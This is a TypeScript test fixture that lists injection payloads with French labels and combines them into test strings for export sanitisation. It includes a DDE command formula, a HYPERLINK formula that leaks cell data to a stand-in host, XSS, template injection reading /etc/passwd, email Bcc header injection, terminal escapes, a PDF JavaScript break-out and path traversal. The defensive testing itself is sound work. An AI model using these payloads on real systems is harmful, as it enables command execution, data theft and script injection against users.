/** What a sender could write in a cell to reach further than the cell, by what it aims at. */
export const POISONS: Readonly<Record<string, string>> = {
  'commande DDE': "=cmd|' /C calc'!A0",
  'formule plus': '+1+1',
  'formule moins': '-2+3',
  'formule arobase': '@SUM(A1)',
  'lien de tableur': '=HYPERLINK("http://mal.invalid/?"&A1,"ici")',
  tabulation: '\t=1+1',
  'retour chariot': '\r=1+1',
  script: '<script>alert(1)</script>',
  image: '"><img src=x onerror=alert(1)>',
  svg: '<svg/onload=alert(1)>',
  'lien de script': '[ici](javascript:alert(1))',
  'image distante': '![x](http://mal.invalid/x.png)',
  'clé de modèle': '{{ secrets }}',
  'balise de modèle': "{% include '/etc/passwd' %}",
  'balise de Word': '{#structures}{nom}{/structures}',
  directive: ':::chiffres',
  'titre et citation': '# Titre > citation * puce',
  'sens inverse': 'abc\u202Efdp.exe',
  'moitié de caractère': 'x\uD800y',
  'ordre au terminal': '\u001B]8;;http://mal.invalid\u0007lien\u001B]8;;\u0007\u001B[2J',
  'ordre à huit bits': '\u009B2J',
  'deux lignes': 'Objet\r\nBcc: espion@mal.invalid\r\n\r\ncorps',
  'fin de CDATA': ']]> &amp; &lt; &#60; </w:t></w:r></w:p>',
  'fin de texte PDF': ') Tj (\\) /JS (app.alert(1)) >> endobj',
  séparateurs: 'a;b,c"d"|e',
  emoji: 'été 👩‍👩‍👧 e\u0301\u0301\u0301',
  'nom de prototype': '__proto__',
  constructeur: 'constructor',
  chemin: '../../../evade',
  'chemin de Windows': 'C:\\evade\\CON',
}

/** Those that only bite at the head of a cell. */
const EN_TETE = /^[=+\-@\t\r]/

/**
 * The same in fewer texts, what bites at the head put first, each with a word of its own by which its trace is found
 * again.
 */
export const TEXTES = composer()

/** As many texts that nobody could object to. */
export const TEXTES_SAGES = TEXTES.map((_, rang) => `Maison Zed${mot(rang)}`)

function composer(): readonly string[] {
  const tous = Object.values(POISONS)
  const tetes = tous.filter((t) => EN_TETE.test(t))
  const suites = tous.filter((t) => !EN_TETE.test(t))
  const parTete = Math.ceil(suites.length / tetes.length)
  return tetes.map((tete, rang) =>
    [tete, ...suites.slice(rang * parTete, (rang + 1) * parTete), `Zed${mot(rang)}`].join(' '),
  )
}

/** A rank in letters: two names that only differ by a number would be taken for one another. */
function mot(rang: number): string {
  return Array.from(String(rang + 100), (chiffre) => 'bdfglmnprv'[Number(chiffre)]).join('a')
}
